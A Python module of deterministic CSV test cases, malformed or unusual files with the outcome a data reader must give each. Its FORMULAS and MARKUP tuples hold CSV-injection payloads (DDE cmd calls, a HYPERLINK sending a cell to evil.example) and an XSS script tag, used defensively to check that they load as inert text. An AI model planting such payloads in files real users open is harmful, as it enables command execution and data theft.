"""R17's corpus of malformed (and merely unusual) CSV files, each with the outcome it must get.

Used by ``test_r17_csv_corpus.py`` for the data commands, and meant for serving's batch
scoring later: import :func:`cases` and feed each ``case.data`` to the endpoint. The corpus
is deterministic (no randomness, no clock), so a failure names the same case every run.

Every case is built from one small table, ``id,name,score`` (an integer, a text and a
float column), written with some defect or oddity, in several layouts (line endings
``\\n``, ``\\r\\n`` or ``\\r``, with or without a final newline, few or many rows) and at
several places (the first data line, the middle, the last line). A case is either

- **accepted**: valid CSV that must load as exactly ``columns`` and ``rows`` (a BOM is not
  part of the first column name; a quoted newline is part of the value; formula-looking
  cells are kept as the text they are), or
- **refused**: the reader must raise an error naming the file, ``line`` (1-based, counted
  as an editor counts: blank lines and lines inside quoted values included; ``\\r\\n`` and a
  lone ``\\r`` each end one line) and, when the defect sits in one, ``column`` (its header
  name, or its 1-based number when it has no usable name).
"""

from __future__ import annotations

import itertools
import re
from collections import Counter
from dataclasses import dataclass
from typing import Any

HEADER = ("id", "name", "score")
NAMES = ("alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta")
ENDINGS = {"lf": b"\n", "crlf": b"\r\n", "cr": b"\r"}
# Cells a spreadsheet would run as formulas (CSV injection); they are data to loopml.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|'/C notepad'!A1",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"!A0")',
)
# Cells that would be markup if shown without escaping (Rich in the terminal, HTML).
MARKUP = ("[bold red]boom[/]", "<script>alert(1)</script>", "[link=http://x]y[/link]", "&amp;")


@dataclass(frozen=True)
class CsvCase:
    """One CSV file and the outcome the reader must give it.

    Args:
        id: unique, readable, stable: ``"<category>/<variation>"``.
        category: the kind of defect or oddity (see :func:`categories`).
        data: the file's bytes.
        accepted: whether it must load.
        columns / rows: the table an accepted case loads as; values as pyarrow gives them
            (``None`` for a missing value).
        line / column: where a refused case's error must point; ``column`` is a header
            name (``str``), a 1-based number (``int``) or ``None`` when no column applies.
    """

    id: str
    category: str
    data: bytes
    accepted: bool
    columns: tuple[str, ...] = ()
    rows: tuple[tuple[Any, ...], ...] = ()
    line: int | None = None
    column: str | int | None = None

    def problems_with(self, message: str) -> list[str]:
        """What a refusal ``message`` fails to name (empty when it names everything)."""
        missing = []
        if self.line is not None and not re.search(rf"\bline {self.line}\b", message):
            missing.append(f"line {self.line}")
        if isinstance(self.column, str) and f"column {self.column!r}" not in message:
            missing.append(f"column {self.column!r}")
        if isinstance(self.column, int) and not re.search(rf"\bcolumn {self.column}\b", message):
            missing.append(f"column {self.column}")
        return missing


def _row(i: int) -> tuple[int, str, float]:
    return i + 1, NAMES[i % len(NAMES)], (i * 7 % 20) / 4


def _rows(n: int) -> list[tuple[Any, ...]]:
    return [_row(i) for i in range(n)]


def _text(values: tuple[Any, ...]) -> bytes:
    return ",".join(str(v) for v in values).encode()


def _file(
    records: list[bytes], ending: bytes = b"\n", final: bool = True, bom: bool = False
) -> bytes:
    body = ending.join(records) + (ending if final else b"")
    return (b"\xef\xbb\xbf" if bom else b"") + body


def _line(records: list[bytes], index: int) -> int:
    """The line on which record ``index`` starts (records may hold quoted newlines)."""
    return 1 + sum(len(re.findall(rb"\r\n|\r|\n", r)) + 1 for r in records[:index])


@dataclass(frozen=True)
class _Layout:
    name: str
    rows: int
    ending: bytes
    final: bool


def _layouts(
    *,
    rows: tuple[int, ...] = (4, 30),
    endings: tuple[str, ...] = ("lf", "crlf"),
    finals: tuple[bool, ...] = (True, False),
) -> list[_Layout]:
    out = []
    for n, e, final in itertools.product(rows, endings, finals):
        out.append(_Layout(f"{n}rows-{e}{'' if final else '-nofinal'}", n, ENDINGS[e], final))
    return out


def _places(n: int) -> dict[str, int]:
    """Where in ``n`` data rows a defect goes: the first, the middle, the last row."""
    return {"first": 0, "middle": n // 2, "last": n - 1}


def _good(rows: int = 10) -> bytes:
    return _file([_text(HEADER), *(_text(r) for r in _rows(rows))])


def good_file(rows: int = 10) -> bytes:
    """A well-formed file of the corpus's table, e.g. to infer a schema from."""
    return _good(rows)


# -- accepted -----------------------------------------------------------------------------


def _accepted(
    category: str,
    variation: str,
    data: bytes,
    columns: tuple[str, ...],
    rows: list[tuple[Any, ...]],
) -> CsvCase:
    return CsvCase(f"{category}/{variation}", category, data, True, columns, tuple(rows))


def _refused(
    category: str, variation: str, data: bytes, line: int | None, column: str | int | None = None
) -> CsvCase:
    return CsvCase(f"{category}/{variation}", category, data, False, line=line, column=column)


def _bom() -> list[CsvCase]:
    out = []
    for layout in _layouts(endings=("lf", "crlf", "cr")):
        records = [_text(HEADER), *(_text(r) for r in _rows(layout.rows))]
        data = _file(records, layout.ending, layout.final, bom=True)
        out.append(_accepted("bom", layout.name, data, HEADER, _rows(layout.rows)))
    quoted = [b'"id","name","score"', *(_text(r) for r in _rows(3))]
    out.append(_accepted("bom", "quoted-header", _file(quoted, bom=True), HEADER, _rows(3)))
    out.append(_accepted("bom", "header-only", _file([_text(HEADER)], bom=True), HEADER, []))
    return out


def _quoted_newlines() -> list[CsvCase]:
    out = []
    values = {
        "lf": "two\nlines",
        "crlf": "two\r\nlines",
        "many": "one\ntwo\nthree\nfour",
        "blank": "before\n\nafter",
        "comma": "a, b\nc, d",
        "quote": 'say ""hi""\nthen go',
    }
    for layout in _layouts(rows=(5,)):
        for (label, value), (where, at) in itertools.product(values.items(), _places(5).items()):
            if where == "middle":
                continue
            rows = _rows(5)
            shown = value.replace('""', '"')
            rows[at] = (rows[at][0], shown, rows[at][2])
            records = [_text(HEADER), *(_text(r) for r in _rows(5))]
            records[at + 1] = f'{rows[at][0]},"{value}",{rows[at][2]}'.encode()
            data = _file(records, layout.ending, layout.final)
            out.append(
                _accepted("quoted-newlines", f"{label}-{where}-{layout.name}", data, HEADER, rows)
            )
    # Bigger than pyarrow's 1 MB block: a quoted newline lands on a block boundary.
    n = 40_000
    rows = [(i + 1, f"line {i}\nnext", (i * 7 % 20) / 4) for i in range(n)]
    records = [_text(HEADER), *(f'{r[0]},"{r[1]}",{r[2]}'.encode() for r in rows)]
    out.append(_accepted("quoted-newlines", f"{n}rows-over-1mb", _file(records), HEADER, rows))
    return out


def _quoting() -> list[CsvCase]:
    """Valid quoting: commas and quotes inside quoted values, quoted empties, quoted numbers."""
    out = []
    cells = {
        "comma": ('"a,b"', "a,b"),
        "escaped-quote": ('"say ""hi"""', 'say "hi"'),
        "only-quotes": ('""""', '"'),
        "quoted-empty": ('""', None),
        "empty": ("", None),
        "spaces": ('"  padded  "', "  padded  "),
        "stray-quote": ('x"y', 'x"y'),  # a quote inside an unquoted value is text
        "trailing-stray-quote": ('xy"', 'xy"'),
    }
    for (label, (cell, value)), layout in itertools.product(
        cells.items(), _layouts(rows=(6,), finals=(True,))
    ):
        rows = _rows(6)
        rows[3] = (rows[3][0], value, rows[3][2])
        records = [_text(HEADER), *(_text(r) for r in _rows(6))]
        records[4] = f"{rows[3][0]},{cell},{rows[3][2]}".encode()
        out.append(
            _accepted(
                "quoting", f"{label}-{layout.name}", _file(records, layout.ending), HEADER, rows
            )
        )
    quoted = [
        b'"id","name","score"',
        *(b'"%d","%s","%s"' % (r[0], r[1].encode(), str(r[2]).encode()) for r in _rows(4)),
    ]
    out.append(_accepted("quoting", "everything-quoted", _file(quoted), HEADER, _rows(4)))
    return out


def _line_endings() -> list[CsvCase]:
    out = []
    mixes = {
        "lf-crlf": [b"\n", b"\r\n"],
        "crlf-lf": [b"\r\n", b"\n"],
        "lf-cr": [b"\n", b"\r"],
        "cr-crlf": [b"\r", b"\r\n"],
        "all-three": [b"\n", b"\r\n", b"\r"],
    }
    for (label, ends), n in itertools.product(mixes.items(), (3, 12)):
        records = [_text(HEADER), *(_text(r) for r in _rows(n))]
        data = b"".join(r + ends[i % len(ends)] for i, r in enumerate(records))
        out.append(_accepted("line-endings", f"{label}-{n}rows", data, HEADER, _rows(n)))
        out.append(
            _accepted(
                "line-endings", f"{label}-{n}rows-nofinal", data.rstrip(b"\r\n"), HEADER, _rows(n)
            )
        )
    return out


def _blank_lines() -> list[CsvCase]:
    out = []
    for layout in _layouts(rows=(5,)):
        records = [_text(HEADER), *(_text(r) for r in _rows(5))]
        inside = [records[0], b"", records[1], records[2], b"", b"", *records[3:]]
        out.append(
            _accepted(
                "blank-lines",
                f"between-{layout.name}",
                _file(inside, layout.ending, layout.final),
                HEADER,
                _rows(5),
            )
        )
        after = _file(records, layout.ending) + layout.ending * 3
        out.append(_accepted("blank-lines", f"after-{layout.name}", after, HEADER, _rows(5)))
    return out


def _formulas() -> list[CsvCase]:
    out = []
    for k, cell in enumerate(FORMULAS + MARKUP):
        rows = _rows(5)
        rows[2] = (rows[2][0], cell, rows[2][2])
        quoted = '"' + cell.replace('"', '""') + '"'
        records = [_text(HEADER), *(_text(r) for r in _rows(5))]
        records[3] = f"{rows[2][0]},{quoted},{rows[2][2]}".encode()
        out.append(_accepted("formula-cells", f"cell{k}", _file(records), HEADER, rows))
    every = [_text(HEADER)]
    rows = []
    for i, cell in enumerate(FORMULAS + MARKUP):
        row = (i + 1, cell, _row(i)[2])
        rows.append(row)
        every.append(f'{row[0]},"{cell.replace(chr(34), chr(34) * 2)}",{row[2]}'.encode())
    out.append(_accepted("formula-cells", "all-in-one", _file(every), HEADER, rows))
    return out


def _header_only() -> list[CsvCase]:
    out = []
    for e, final in itertools.product(("lf", "crlf", "cr"), (True, False)):
        data = _file([_text(HEADER)], ENDINGS[e], final)
        out.append(_accepted("header-only", f"{e}{'' if final else '-nofinal'}", data, HEADER, []))
    out.append(_accepted("header-only", "single-column", b"name", ("name",), []))
    return out


def _long_fields() -> list[CsvCase]:
    out = []
    for size, quoted in itertools.product((200_000, 1_500_000, 3_000_000), (False, True)):
        value = "x" * size
        rows = _rows(3)
        rows[1] = (rows[1][0], value, rows[1][2])
        records = [_text(HEADER), *(_text(r) for r in _rows(3))]
        cell = f'"{value}"' if quoted else value
        records[2] = f"{rows[1][0]},{cell},{rows[1][2]}".encode()
        out.append(
            _accepted(
                "long-fields", f"{size}{'-quoted' if quoted else ''}", _file(records), HEADER, rows
            )
        )
    return out


def _unicode() -> list[CsvCase]:
    out = []
    words = ("Zürich", "東京", "naïve café", "emoji 🚀", "Ελληνικά", "עברית")
    for k, word in enumerate(words):
        rows = [(r[0], word if i == 1 else r[1], r[2]) for i, r in enumerate(_rows(3))]
        records = [_text(HEADER), *(_text(r) for r in rows)]
        out.append(_accepted("unicode", f"value{k}", _file(records), HEADER, rows))
        header = ("id", word, "score")
        records = [_text(header), *(_text(r) for r in _rows(3))]
        out.append(_accepted("unicode", f"header{k}", _file(records), header, _rows(3)))
    return out


def _headerless_text() -> list[CsvCase]:
    """No header line, but the first row holds text: CSV cannot tell, so it is the header."""
    out = []
    for n in (3, 8):
        rows = _rows(n + 1)
        first = tuple(str(v) for v in rows[0])
        data = _file([_text(r) for r in rows])
        out.append(_accepted("first-row-as-header", f"{n}rows", data, first, rows[1:]))
    return out


def _wide() -> list[CsvCase]:
    out = []
    for width in (50, 500):
        header = tuple(f"c{i}" for i in range(width))
        rows = [tuple(r * width + i for i in range(width)) for r in range(3)]
        out.append(
            _accepted(
                "wide",
                f"{width}cols",
                _file([_text(header), *(_text(r) for r in rows)]),
                header,
                rows,
            )
        )
    return out


# -- refused ------------------------------------------------------------------------------


def _ragged() -> list[CsvCase]:
    out = []
    for layout in _layouts():
        for where, at in _places(layout.rows).items():
            records = [_text(HEADER), *(_text(r) for r in _rows(layout.rows))]
            more = list(records)
            more[at + 1] += b",extra"
            data = _file(more, layout.ending, layout.final)
            out.append(
                _refused("ragged-more", f"{where}-{layout.name}", data, _line(more, at + 1), 4)
            )
            fewer = list(records)
            fewer[at + 1] = fewer[at + 1].rsplit(b",", 1)[0]
            data = _file(fewer, layout.ending, layout.final)
            out.append(
                _refused(
                    "ragged-fewer", f"{where}-{layout.name}", data, _line(fewer, at + 1), "score"
                )
            )
    # after a quoted newline, the line number counts the lines inside the quoted value
    records = [_text(HEADER), b'1,"two\nlines",0.5', b'2,"three\n\nlines",1.0', b"3,gamma"]
    out.append(
        _refused(
            "ragged-fewer", "after-quoted-newlines", _file(records), _line(records, 3), "score"
        )
    )
    records = [_text(HEADER), b"", b"", b"1,alpha,0.5", b"", b"2,beta,1.0,9,9"]
    out.append(_refused("ragged-more", "after-blank-lines", _file(records), _line(records, 5), 4))
    records = [_text(HEADER), b"1,alpha,0.5", b"   ", b"2,beta,1.0"]
    out.append(_refused("ragged-fewer", "spaces-only-line", _file(records), 3, "name"))
    records = [_text(HEADER), b"1,alpha,0.5", b"2"]
    out.append(_refused("ragged-fewer", "one-field", _file(records), 3, "name"))
    return out


def _wrong_delimiter() -> list[CsvCase]:
    out = []
    for (sep_name, sep), layout in itertools.product(
        {"semicolon": b";", "tab": b"\t", "pipe": b"|"}.items(), _layouts(rows=(3, 20))
    ):
        records = [sep.join(h.encode() for h in HEADER)]
        records += [sep.join(str(v).encode() for v in r) for r in _rows(layout.rows)]
        out.append(
            _refused(
                "wrong-delimiter",
                f"{sep_name}-{layout.name}",
                _file(records, layout.ending, layout.final),
                1,
            )
        )
    # European decimals: the commas make the data rows ragged, the header says why
    records = [b"id;name;score", b"1;alpha;0,5", b"2;beta;1,25"]
    out.append(_refused("wrong-delimiter", "semicolon-decimal-commas", _file(records), 1))
    return out


def _encoding() -> list[CsvCase]:
    out = []
    bad = {
        "latin1-e-acute": "café".encode("latin-1"),
        "latin1-u-umlaut": "Zürich".encode("latin-1"),
        "latin1-sharp-s": "Straße".encode("latin-1"),
        "latin1-pound": "£5".encode("latin-1"),
        "cp1252-smart-quotes": "“quoted”".encode("cp1252"),
        "cp1252-euro": "5€".encode("cp1252"),
        "truncated-utf8": "café".encode()[:-1],
        "lone-continuation": b"x\x80y",
    }
    for (label, value), layout in itertools.product(
        bad.items(), _layouts(rows=(4, 30), finals=(True,))
    ):
        at = layout.rows // 2
        records = [_text(HEADER), *(_text(r) for r in _rows(layout.rows))]
        records[at + 1] = b"%d,%s,0.5" % (at + 1, value)
        out.append(
            _refused(
                "not-utf8",
                f"{label}-{layout.name}",
                _file(records, layout.ending),
                _line(records, at + 1),
                "name",
            )
        )
    for label, value in list(bad.items())[:4]:
        records = [b"id," + value + b",score", *(_text(r) for r in _rows(3))]
        out.append(_refused("not-utf8", f"{label}-header", _file(records), 1, 2))
    text = "id,name,score\n1,alpha,0.5\n"
    out.append(_refused("not-utf8", "utf16-le-bom", text.encode("utf-16"), 1))
    out.append(_refused("not-utf8", "utf16-be-bom", b"\xfe\xff" + text.encode("utf-16-be"), 1))
    out.append(_refused("not-utf8", "utf16-le-no-bom", text.encode("utf-16-le"), 1, 1))
    # the last line of a file, with no final newline
    records = [_text(HEADER), *(_text(r) for r in _rows(3)), b"4,d\xe9j\xe0,1.0"]
    out.append(_refused("not-utf8", "last-line-nofinal", _file(records, final=False), 5, "name"))
    return out


def _unclosed_quotes() -> list[CsvCase]:
    out = []
    for layout in _layouts():
        for where, at in _places(layout.rows).items():
            records = [_text(HEADER), *(_text(r) for r in _rows(layout.rows))]
            records[at + 1] = b'%d,"never closed,0.5' % (at + 1)
            out.append(
                _refused(
                    "unclosed-quote",
                    f"{where}-{layout.name}",
                    _file(records, layout.ending, layout.final),
                    _line(records, at + 1),
                    "name",
                )
            )
    records = [_text(HEADER), b'1,alpha,"0.5', b"2,beta,1.0"]
    out.append(_refused("unclosed-quote", "last-column", _file(records), 2, "score"))
    records = [_text(HEADER), b'1,"fine\nquoted",0.5', b'2,"say ""hi"" then', b"3,gamma,1.0"]
    out.append(_refused("unclosed-quote", "after-escaped-quotes", _file(records), 4, "name"))
    records = [b'id,"name,score', b"1,alpha,0.5"]
    out.append(_refused("unclosed-quote", "in-header", _file(records), 1, 2))
    records = [_text(HEADER), b'"1,alpha,0.5']
    out.append(
        _refused("unclosed-quote", "first-column-last-line", _file(records, final=False), 2, "id")
    )
    return out


def _nul_bytes() -> list[CsvCase]:
    out = []
    for layout in _layouts(finals=(True,)):
        for where, at in _places(layout.rows).items():
            records = [_text(HEADER), *(_text(r) for r in _rows(layout.rows))]
            records[at + 1] = b"%d,al\x00pha,0.5" % (at + 1)
            out.append(
                _refused(
                    "nul-bytes",
                    f"value-{where}-{layout.name}",
                    _file(records, layout.ending),
                    _line(records, at + 1),
                    "name",
                )
            )
    records = [_text(HEADER), b'1,"quo\x00ted",0.5']
    out.append(_refused("nul-bytes", "quoted-value", _file(records), 2, "name"))
    out.append(_refused("nul-bytes", "in-header", _file([b"id,na\x00me,score", b"1,a,0.5"]), 1, 2))
    out.append(_refused("nul-bytes", "all-zeros", b"\x00" * 4096, 1, 1))
    records = [_text(HEADER), *(_text(r) for r in _rows(5))]
    # a crash can leave a file's tail as zeros: the line after the last good one
    out.append(_refused("nul-bytes", "zero-tail", _file(records) + b"\x00" * 512, 7, "id"))
    return out


def _header_problems() -> list[CsvCase]:
    out = []
    dupes = {
        "same-name": (("id", "name", "id"), 3),
        "adjacent": (("id", "id", "score"), 2),
        "three-times": (("x", "x", "x"), 2),
    }
    for (label, (header, column)), layout in itertools.product(
        dupes.items(), _layouts(rows=(3,), finals=(True,))
    ):
        records = [_text(header), *(_text(r) for r in _rows(3))]
        out.append(
            _refused(
                "duplicate-header",
                f"{label}-{layout.name}",
                _file(records, layout.ending),
                1,
                column,
            )
        )
    for layout in _layouts(rows=(4, 20), finals=(True,)):
        for where, at in list(_places(layout.rows).items())[1:]:
            records = [_text(HEADER), *(_text(r) for r in _rows(layout.rows))]
            records.insert(at + 1, _text(HEADER))  # two exports joined
            out.append(
                _refused(
                    "duplicate-header",
                    f"repeated-line-{where}-{layout.name}",
                    _file(records, layout.ending),
                    _line(records, at + 1),
                )
            )
    empty_names = {
        "trailing-comma": (b"id,name,score,", b"1,alpha,0.5,", 4),
        "middle": (b"id,,score", b"1,alpha,0.5", 2),
        "first": (b",name,score", b"1,alpha,0.5", 1),
        "spaces": (b"id,   ,score", b"1,alpha,0.5", 2),
        "all": (b",,", b"1,alpha,0.5", 1),
        "quoted-empty": (b'id,"",score', b"1,alpha,0.5", 2),
    }
    for label, (header, row, column) in empty_names.items():
        for e in ("lf", "crlf"):
            out.append(
                _refused(
                    "missing-header",
                    f"empty-name-{label}-{e}",
                    _file([header, row, row], ENDINGS[e]),
                    1,
                    column,
                )
            )
    for n, e in itertools.product((1, 5, 30), ("lf", "crlf")):
        records = [b",".join(str(v).encode() for v in (r[0], r[2], r[0] * 2)) for r in _rows(n + 1)]
        out.append(
            _refused("missing-header", f"numbers-only-{n}rows-{e}", _file(records, ENDINGS[e]), 1)
        )
    out.append(_refused("missing-header", "single-number-column", b"1\n2\n3\n", 1))
    out.append(_refused("missing-header", "negative-and-exponent", b"-1,2.5e3,.5\n3,4,5\n", 1))
    out.append(_refused("missing-header", "spaces-only-file", b"   \n   \n", 1, 1))
    double_bom = b"\xef\xbb\xbf" + _file([_text(HEADER), _text(_row(0))], bom=True)
    out.append(_refused("bom-inside", "twice", double_bom, 1, 1))
    out.append(
        _refused("bom-inside", "in-second-name", b"id,\xef\xbb\xbfname,score\n1,a,0.5\n", 1, 2)
    )
    return out


def _empty() -> list[CsvCase]:
    files = {
        "zero-bytes": b"",
        "lf": b"\n",
        "crlf": b"\r\n",
        "cr": b"\r",
        "blank-lines": b"\n\n\n",
        "bom-only": b"\xef\xbb\xbf",
        "bom-newline": b"\xef\xbb\xbf\n",
        "bom-blank-lines": b"\xef\xbb\xbf\r\n\r\n",
    }
    return [_refused("empty", label, data, None) for label, data in files.items()]


_BUILDERS = (
    _bom,
    _quoted_newlines,
    _quoting,
    _line_endings,
    _blank_lines,
    _formulas,
    _header_only,
    _long_fields,
    _unicode,
    _headerless_text,
    _wide,
    _ragged,
    _wrong_delimiter,
    _encoding,
    _unclosed_quotes,
    _nul_bytes,
    _header_problems,
    _empty,
)


def cases() -> list[CsvCase]:
    """Every case, in a stable order; ids are unique."""
    found = [case for build in _BUILDERS for case in build()]
    ids = Counter(case.id for case in found)
    assert max(ids.values()) == 1, [i for i, n in ids.items() if n > 1]
    return found


def categories() -> dict[str, int]:
    """Cases per category, in corpus order."""
    return dict(Counter(case.category for case in cases()))
